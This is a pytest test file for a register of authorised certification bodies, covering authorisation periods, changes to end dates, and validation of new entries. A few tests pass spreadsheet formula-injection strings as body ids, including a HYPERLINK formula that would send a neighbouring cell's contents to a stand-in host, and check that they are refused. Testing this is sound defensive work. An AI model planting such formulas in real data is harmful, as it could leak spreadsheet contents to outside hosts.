"""The register of authorised certification bodies (guide §1.2, §1.3)."""

from __future__ import annotations

from datetime import date, datetime, timezone

import pytest

from spplus.records import AlreadyRecorded, BodyRegister, NotAuthorised, UnknownBody


@pytest.fixture
def register(db_url) -> BodyRegister:
    register = BodyRegister(db_url)
    register.add("oc-alpha", "OC Alpha", date(2023, 8, 31), by="DITP, mission label")
    register.add("oc-beta", "OC Beta", date(2024, 1, 1), date(2026, 6, 30), by="DITP, mission label")
    register.add("oc-gamma", "OC Gamma", date(2027, 1, 1), by="DITP, mission label")
    return register


def test_unknown_body(register):
    assert not register.authorised("oc-zeta", date(2026, 5, 1))
    with pytest.raises(UnknownBody, match="^oc-zeta is not in the register of authorised bodies$"):
        register.check("oc-zeta", date(2026, 5, 1))
    with pytest.raises(NotAuthorised):  # the one error the API maps, whatever the reason
        register.check('=HYPERLINK("http://x"&A2,"x")', date(2026, 5, 1))
    with pytest.raises(LookupError):
        register.get("oc-zeta")


def test_authorisation_not_yet_begun(register):
    assert not register.authorised("oc-gamma", date(2026, 12, 31))
    with pytest.raises(NotAuthorised, match="^oc-gamma's authorisation begins on 2027-01-01$"):
        register.check("oc-gamma", date(2026, 12, 31))
    register.check("oc-gamma", date(2027, 1, 1))


def test_authorisation_ended(register):
    register.check("oc-beta", date(2026, 6, 30))  # its last day
    assert not register.authorised("oc-beta", date(2026, 7, 1))
    with pytest.raises(NotAuthorised, match="^oc-beta's authorisation ended on 2026-06-30$") as refused:
        register.check("oc-beta", date(2026, 7, 1))
    assert refused.value.body == "oc-beta"


def test_valid_and_listed(register):
    assert register.authorised("oc-alpha", date(2026, 5, 1))
    register.check("oc-alpha", date(2030, 1, 1))  # no end
    assert [b.id for b in register.list()] == ["oc-alpha", "oc-beta", "oc-gamma"]
    alpha = register.get("oc-alpha")
    assert (alpha.name, alpha.recorded_by, alpha.authorised_until) == ("OC Alpha", "DITP, mission label", None)
    assert alpha.recorded_at.tzinfo is not None


def test_the_ditp_ends_and_restores_an_authorisation(register):
    at = datetime(2026, 9, 1, 8, tzinfo=timezone.utc)
    ended = register.set_authorised_until("oc-alpha", date(2026, 9, 30), by="DITP", at=at)
    assert (ended.authorised_until, ended.changed_by, ended.changed_at) == (date(2026, 9, 30), "DITP", at)
    with pytest.raises(NotAuthorised, match="ended on 2026-09-30"):
        register.check("oc-alpha", date(2026, 10, 1))
    register.set_authorised_until("oc-alpha", None, by="DITP")
    register.check("oc-alpha", date(2026, 10, 1))
    with pytest.raises(ValueError, match="before it begins"):
        register.set_authorised_until("oc-alpha", date(2020, 1, 1), by="DITP")
    with pytest.raises(UnknownBody):
        register.set_authorised_until("oc-zeta", date(2026, 9, 30), by="DITP")


def test_the_register_refuses_a_duplicate_a_bad_id_and_a_bad_period(register):
    with pytest.raises(AlreadyRecorded, match="oc-alpha is already in the register"):
        register.add("oc-alpha", "OC Alpha bis", date(2026, 1, 1), by="DITP")
    with pytest.raises(ValueError, match="pattern"):
        register.add("=HYPERLINK(1)", "formula", date(2026, 1, 1), by="DITP")
    with pytest.raises(ValueError, match="before authorised_from"):
        register.add("oc-delta", "OC Delta", date(2026, 1, 1), date(2025, 1, 1), by="DITP")
    assert len(register.list()) == 3
